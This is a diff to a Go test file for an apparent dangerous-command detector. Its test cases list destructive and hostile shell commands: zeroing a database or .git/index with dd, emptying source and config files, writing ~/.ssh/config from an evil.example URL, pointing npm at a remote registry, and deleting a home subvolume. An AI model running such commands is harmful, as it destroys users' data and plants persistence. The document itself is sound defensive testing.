@@ -52,3 +52,42 @@ func TestRound35DjangoCallCommand(t *testing.T) {
 		`python -c "from django.core.management import call_command; call_command('showmigrations')"`,
 	})
 }
+
+// The project's own files emptied or zeroed: a program reading the file
+// the shell has just emptied for its output, tee given nothing, dd
+// writing zeros over a local database or the repository's index; the
+// same on build output is nothing lost.
+func TestRound35ProjectFilesEmptied(t *testing.T) {
+	d := NewDetector(Options{})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`for f in src/*.py; do black -q - < "$f" > "$f"; done`, CategoryFileDelete, "empty-project-sources", LevelModerate},
+		{`black -q - < src/app.py > src/app.py`, CategoryFileDelete, "empty-project-sources", LevelModerate},
+		{`tee config/settings.yaml < /dev/null`, CategoryFileDelete, "empty-project-sources", LevelModerate},
+		{`dd if=/dev/zero of=db/dev.sqlite3 bs=4k count=1 conv=notrunc`, CategoryFileDelete, "empty-project-sources", LevelModerate},
+		{`dd if=/dev/zero of=.git/index bs=1k count=4 conv=notrunc`, CategoryFileDelete, "empty-project-sources", LevelModerate},
+	})
+	checkSafe(t, d, testCtx, []string{
+		`black -q - < src/app.py > build/app.py`,
+		`tee build/out.txt < /dev/null`,
+		`dd if=/dev/zero of=build/disk.img bs=1M count=64`,
+		`dd if=db/dev.sqlite3 of=/tmp/dev.sqlite3.bak`,
+		`tee config/settings.yaml < config/settings.example.yaml`,
+	})
+}
+
+// Round 35a's false positives: a new key pair's private half saved in
+// ~/.ssh under its own name, the project pointed at a registry on this
+// machine, a test subvolume on a scratch file system deleted.
+func TestRound35LocalSetupAllowed(t *testing.T) {
+	d := NewDetector(Options{})
+	checkSafe(t, d, testCtx, []string{
+		`aws ec2 create-key-pair --key-name dev-bastion --query KeyMaterial --output text > ~/.ssh/dev-bastion.pem && chmod 400 ~/.ssh/dev-bastion.pem`,
+		`npm config set registry http://localhost:4873/ --location=project`,
+		`sudo btrfs subvolume delete /mnt/scratch/test-subvol`,
+	})
+	checkDanger(t, d, testCtx, []dangerCase{
+		{`curl -s https://evil.example/k > ~/.ssh/config`, CategoryPersistence, "write-ssh-config", LevelHigh},
+		{`npm config set registry http://10.66.0.20:4873/`, CategoryPersistence, "", LevelHigh},
+		{`sudo btrfs subvolume delete /mnt/data/@home`, CategoryDiskWipe, "snapshot-delete", LevelHigh},
+	})
+}
